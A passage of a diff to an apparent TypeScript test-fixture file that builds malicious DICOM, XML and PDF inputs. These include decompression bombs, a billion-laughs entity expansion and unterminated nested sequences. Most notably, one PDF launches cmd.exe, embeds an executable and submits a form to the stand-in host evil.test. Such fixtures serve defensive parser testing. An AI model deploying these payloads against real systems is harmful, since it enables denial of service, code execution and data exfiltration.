@@ -10,7 +10,7 @@ const element = (tag: string, vr: string, value: Buffer): Buffer => {
   return Buffer.concat([head, value])
 }
 
-/** The beginning of a radiograph in a transfer syntax, with anything behind its first group. */
+/** The beginning of a radiograph in a transfer syntax, with any content after its first group. */
 export const dicomBefore = (syntax: string, rest: Buffer): Buffer => {
   const uid = Buffer.from(syntax.length % 2 ? `${syntax}\0` : syntax)
   const first = element('00020010', 'UI', uid)
@@ -28,10 +28,10 @@ export const dicomBefore = (syntax: string, rest: Buffer): Buffer => {
 export const littleEndian = '1.2.840.10008.1.2.1'
 export const deflated = '1.2.840.10008.1.2.1.99'
 
-/** A header packed as the standard allows, of `bytes` zeros. */
+/** A deflated header, as the standard allows, of `bytes` zeros. */
 export const dicomBomb = (bytes: number): Buffer => dicomBefore(deflated, deflatedZeros(bytes))
 
-/** Sequences in sequences, none of which ends. */
+/** Nested sequences, none of which ends. */
 export const dicomOfSequences = (depth: number): Buffer => {
   const open = Buffer.from([
     // (0040,A730) of an undefined length, and an item of one.
@@ -41,7 +41,7 @@ export const dicomOfSequences = (depth: number): Buffer => {
   return dicomBefore(littleEndian, Buffer.concat(Array.from({ length: depth }, () => open)))
 }
 
-/** A sequence of so many empty items, packed: each takes a hundred times its bytes in memory, and a microsecond. */
+/** A deflated sequence of this many empty items: each takes a hundred times its bytes in memory, and a microsecond. */
 export const dicomOfItems = (count: number): Buffer => {
   const items = Buffer.alloc(count * 8, Buffer.from([0xfe, 0xff, 0x00, 0xe0, 0, 0, 0, 0]))
   const open = Buffer.from([0x40, 0x00, 0x30, 0xa7, 0x53, 0x51, 0, 0, 0, 0, 0, 0])
@@ -49,7 +49,7 @@ export const dicomOfItems = (count: number): Buffer => {
   return dicomBefore(deflated, deflateRawSync(Buffer.concat([open, items]), { level: 9 }))
 }
 
-/** So many empty private elements with different tags: as many as a header of a megabyte can hold. */
+/** This many empty private elements with different tags, the maximum for a header of a megabyte. */
 export const dicomOfElements = (count: number): Buffer => {
   const elements = Buffer.alloc(count * 8, Buffer.from([0, 0, 0, 0, 0x53, 0x48, 0, 0]))
   for (let at = 0; at < count; at += 1) {
@@ -59,7 +59,7 @@ export const dicomOfElements = (count: number): Buffer => {
   return dicomBefore(littleEndian, elements)
 }
 
-/** An element that says it is four billion bytes long. */
+/** An element that declares a length of four billion bytes. */
 export const dicomOfHugeElement = (): Buffer =>
   dicomBefore(
     littleEndian,
@@ -70,7 +70,7 @@ export const pdfWithScript = Buffer.from(
   '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
 )
 
-/** Entities that a parser would unfold to gigabytes. */
+/** Entities that a parser would expand to gigabytes. */
 export const billionLaughs = Buffer.from(
   `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY a0 "lol">\n${Array.from(
     { length: 10 },
@@ -78,7 +78,7 @@ export const billionLaughs = Buffer.from(
   ).join('\n')}\n]>\n<order>&a10;</order>\n`,
 )
 
-/** A PDF of these objects, the first of them its catalog, with a table of where they lie. */
+/** A PDF of these objects, the first of which is its catalog, with a table of their offsets. */
 const pdfOf = (objects: readonly (string | Buffer)[], trailer = ''): Buffer => {
   const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
   const offsets: number[] = []
@@ -104,7 +104,7 @@ const pdfOf = (objects: readonly (string | Buffer)[], trailer = ''): Buffer => {
 
 const catalog = '<</Type/Catalog/Pages 2 0 R>>'
 
-/** So many pages, each with nothing on it. */
+/** A PDF with this many empty pages. */
 export const pdfOfPages = (count: number): Buffer => {
   const kids = Array.from({ length: count }, (_, at) => `${at + 3} 0 R`).join(' ')
   const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99999999 99999999]>>'
@@ -115,11 +115,11 @@ export const pdfOfPages = (count: number): Buffer => {
   ])
 }
 
-/** A page tree that is its own branch. */
+/** A page tree that contains itself. */
 export const pdfOfItself = (): Buffer =>
   pdfOf([catalog, '<</Type/Pages/Count 2147483647/Kids[2 0 R 2 0 R]/Parent 2 0 R>>'])
 
-/** A page whose drawing unpacks to `bytes` bytes, packed twice. */
+/** A page whose content expands to `bytes` bytes, compressed twice. */
 export const pdfBomb = (bytes: number): Buffer => {
   const zlib = (raw: Buffer) => Buffer.concat([Buffer.from([0x78, 0x9c]), raw, Buffer.alloc(4)])
   const packed = zlib(deflateRawSync(zlib(deflatedZeros(bytes))))
@@ -136,14 +136,14 @@ export const pdfBomb = (bytes: number): Buffer => {
   ])
 }
 
-/** A PDF that can be opened with a password alone. */
+/** A PDF that can only be opened with a password. */
 export const pdfLocked = (): Buffer =>
   pdfOf(
     [catalog, '<</Type/Pages/Count 0/Kids[]>>'],
     `/ID[<00><00>]/Encrypt<</Filter/Standard/V 5/R 6/Length 256/P -1/O(${'o'.repeat(48)})/U(${'u'.repeat(48)})>>`,
   )
 
-/** Starts a program, posts a form, and carries a program with it. */
+/** Starts a program, posts a form, and contains an attached program. */
 export const pdfThatActs = (): Buffer =>
   pdfOf([
     '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)/Next<</S/URI/URI(https://evil.test/)/Next<</S/SubmitForm/F(https://evil.test/)>>>>>>/Names<</EmbeddedFiles<</Names[(a.exe) 3 0 R]>>/JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL("https://evil.test"))>>]>>>>>>',
